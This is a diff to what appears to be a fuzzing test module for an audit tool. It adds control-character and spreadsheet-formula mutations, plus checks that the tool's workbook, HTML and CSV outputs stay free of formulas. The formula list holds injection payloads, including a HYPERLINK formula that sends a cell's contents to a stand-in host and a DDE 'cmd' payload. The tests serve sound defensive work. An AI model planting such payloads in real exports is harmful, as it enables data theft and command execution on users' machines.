@@ -156,6 +156,29 @@ def mutate_text(rng: random.Random, document: Any) -> str:
     return _one_of(rng, document, paths, _ODD_TEXTS)
 
 
+#: Visible text with a character a workbook or a page cannot hold inside it.
+_CONTROL_TEXTS = ["A\x0bB", "A\x00B", "x\x13", "\x1bN", "a\x7fb", "a\x85b", "a\x0cb", "a\rb"]
+#: Visible text that a spreadsheet would take for a formula.
+_FORMULA_TEXTS = [
+    '=HYPERLINK("http://example.invalid/"&B3,"click")', "=1+2", "+1+2", "-2+3", "@SUM(A1)",
+    "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-1", "=",
+]  # fmt: skip
+
+
+def mutate_control(rng: random.Random, document: Any) -> str:
+    """A text field given a control character among visible ones (read as valid)."""
+    names = {"case_id", "source_solution", "target_solution", "record_id"}
+    paths = [p for p in _paths(document) if p and p[-1] in names]
+    return _one_of(rng, document, paths, _CONTROL_TEXTS)
+
+
+def mutate_formula(rng: random.Random, document: Any) -> str:
+    """A text field that a spreadsheet would read as a formula (read as valid)."""
+    names = {"case_id", "source_solution", "target_solution", "record_id"}
+    paths = [p for p in _paths(document) if p and p[-1] in names]
+    return _one_of(rng, document, paths, _FORMULA_TEXTS)
+
+
 def mutate_keys(rng: random.Random, document: Any) -> str:
     """A key added, removed, doubled or oddly spelled, in some object of the document."""
     objects = [p for p in _paths(document) if isinstance(_at(document, p), dict)]
@@ -244,6 +267,8 @@ MUTATIONS: dict[str, Callable[[random.Random, Any], str | bytes]] = {
     "structure": mutate_structure,
     "bytes": mutate_bytes,
     "facts": mutate_facts,
+    "control": mutate_control,
+    "formula": mutate_formula,
 }
 
 
@@ -382,3 +407,100 @@ def judge_cli(payload: str | bytes, kind: str, folder: Path) -> tuple[str, str]:
     if code == 2 and len(errors.strip().splitlines()) != 1:
         return "crash", f"exit 2 with {len(errors.splitlines())} lines on stderr"
     return "refused" if code == 2 else "accepted", ""
+
+
+# -- the audit's outputs --------------------------------------------------------------------
+
+#: What a spreadsheet may take for the start of a formula.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: The characters a workbook cannot hold.
+_UNHOLDABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def judge_audit(payload: str | bytes, folder: Path) -> tuple[str, str]:
+    """The audit (in this process) of ``payload`` into a workbook, a page and a spreadsheet's
+    CSV, each read back by its own reader, and into the input itself (which must be refused,
+    the input untouched): ``("crash", why)`` on any fault, else ``("accepted", "")``."""
+    import csv
+
+    import openpyxl
+
+    path = folder / "input.json"
+    data = payload if isinstance(payload, bytes) else payload.encode("utf-8", "surrogatepass")
+    path.write_bytes(data)
+    for name in ("audit.xlsx", "audit.html", "audit.csv", "input.json"):
+        out = folder / name
+        argv = ["audit", str(path), "--as-of", "2025-09-01", "--out", str(out)]
+        argv += ["--excel"] if name == "audit.csv" else []
+        err = io.StringIO()
+        with redirect_stdout(io.StringIO()), redirect_stderr(err):
+            code = main(argv)
+        if code not in (0, 1, 2) or "Traceback" in err.getvalue():
+            return "crash", f"audit --out {name}: exit {code}: {err.getvalue()[:200]}"
+        if name == "input.json":
+            if (code, path.read_bytes()) != (2, data):
+                return "crash", "audit --out INPUT: the input was written over"
+            continue
+        if not out.exists():
+            return "crash", f"audit --out {name}: no output"
+        if name == "audit.xlsx":
+            for row in openpyxl.load_workbook(out).worksheets[0].iter_rows():
+                for cell in row:
+                    if cell.data_type == "f":
+                        return "crash", f"a formula in the workbook: {cell.value!r}"
+        elif name == "audit.html":
+            if _UNHOLDABLE.search(out.read_text("utf-8")):
+                return "crash", "a control character in the page"
+        else:
+            with out.open(encoding="utf-8-sig", newline="") as stream:
+                for line in list(csv.reader(stream, delimiter=";"))[1:]:
+                    for cell in line:
+                        if cell.startswith(_FORMULA_START) and not re.fullmatch(
+                            r"-?[0-9]+(,[0-9]+)?", cell
+                        ):
+                            return "crash", f"a formula in the spreadsheet's CSV: {cell!r}"
+        out.unlink()
+    return "accepted", ""
+
+
+# -- log tables of the wrong types ------------------------------------------------------------
+
+
+def mutate_log_table(rng: random.Random, tables: dict[str, Any]) -> tuple[dict[str, Any], str]:
+    """The DMP log tables (Arrow) with one column of one table turned into another type
+    (integers, text, floats, booleans, naive instants or all nulls): the tables and
+    ``table.column``."""
+    import pyarrow as pa
+
+    table_name = rng.choice(sorted(tables))
+    table = tables[table_name]
+    column = rng.choice(table.column_names)
+    rows = table.num_rows
+    kinds = [
+        pa.array([rng.randrange(-5, 5) for _ in range(rows)], pa.int64()),
+        pa.array(
+            [rng.choice(["", "   ", "\u200b", "yes", "2025-13-01", "x"]) for _ in range(rows)]
+        ),
+        pa.array([rng.random() for _ in range(rows)], pa.float64()),
+        pa.array([rng.random() < 0.5 for _ in range(rows)], pa.bool_()),
+        pa.array([datetime(rng.choice([1850, 2025, 2500]), 1, 1) for _ in range(rows)]),
+        pa.nulls(rows, pa.string()),
+    ]
+    changed = dict(tables)
+    index = table.schema.get_field_index(column)
+    changed[table_name] = table.set_column(index, column, rng.choice(kinds))
+    return changed, f"{table_name}.{column}"
+
+
+def judge_log_tables(tables: dict[str, Any]) -> tuple[str, str]:
+    """What the DMP log audit does with ``tables``: ``refused`` (a DmeRulesError),
+    ``accepted``, or ``crash`` (any other exception, a database's own among them)."""
+    from dme_rules.jurisdictions.fr.dmp_logs import audit_dmp_logs
+
+    try:
+        audit_dmp_logs(tables, as_of=AS_OF[1])
+    except DmeRulesError:
+        return "refused", ""
+    except Exception as error:  # what the fuzzer looks for
+        return "crash", f"{type(error).__name__}: {error}"[:200]
+    return "accepted", ""
